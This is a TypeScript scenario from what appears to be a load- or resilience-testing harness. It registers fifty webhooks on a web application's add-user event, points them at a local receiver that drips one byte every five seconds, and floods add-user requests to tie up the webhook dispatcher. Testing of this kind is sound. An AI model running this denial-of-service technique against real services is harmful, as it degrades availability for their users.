import { ADDRESSES } from '../addresses.ts';
import type { Attack, AttackContext } from '../attack.ts';
import { inParallel } from '../attack.ts';
import { X } from '../seed.ts';

const WEBHOOKS = 50;
const DRIP_MS = 5_000;
const names = Array.from({ length: WEBHOOKS }, (_, index) => `drip-${String(index + 1).padStart(2, '0')}`);

/**
 * A receiver on 127.0.0.1 that reads nothing and answers one byte of its response every five
 * seconds, never finishing it; it lives as long as the attack's process.
 */
function startDripReceiver(): number {
  const response = new TextEncoder().encode(
    'HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 2\r\n\r\nok',
  );
  const timers = new Map<unknown, ReturnType<typeof setInterval>>();
  const server = Bun.listen({
    hostname: '127.0.0.1',
    port: 0,
    socket: {
      open(socket) {
        let sent = 0;
        timers.set(
          socket,
          setInterval(() => {
            if (sent < response.length) socket.write(response.subarray(sent, ++sent));
          }, DRIP_MS),
        );
      },
      data() {},
      close(socket) {
        clearInterval(timers.get(socket));
        timers.delete(socket);
      },
      error(socket) {
        clearInterval(timers.get(socket));
        timers.delete(socket);
      },
    },
  });
  return server.port;
}

/** Fifty webhooks of X on add-user, each pointed at the drip receiver. */
async function prepare(context: AttackContext) {
  const port = startDripReceiver();
  for (const name of names) {
    await context.setUp('/api/add-webhook', {
      owner: 'admin',
      name,
      organization: X,
      url: `http://127.0.0.1:${port}/${name}`,
      method: 'POST',
      contentType: 'application/json',
      events: ['add-user'],
      isEnabled: true,
    });
  }
}

/** X's administrator adds users (no password), each a record that goes to fifty webhooks, from two senders. */
async function run(context: AttackContext, until: number) {
  const cookie = await context.xAdmin();
  await inParallel(2, until, async (worker, round) => {
    await context.hit(
      '/api/add-user',
      {
        from: ADDRESSES.xAdmin,
        cookie,
        body: { owner: X, name: `hooked-${worker}-${round}`, displayName: 'Webhook trigger' },
      },
      until,
    );
  });
}

async function cleanup(context: AttackContext) {
  for (const name of names) await context.setUp('/api/delete-webhook', { owner: 'admin', name });
}

export const slowWebhooksAttack: Attack = {
  name: 'slow-webhooks',
  title: '50 webhooks to a receiver that drips a byte every 5 s, add-user to trigger them',
  prepare,
  run,
  cleanup,
};
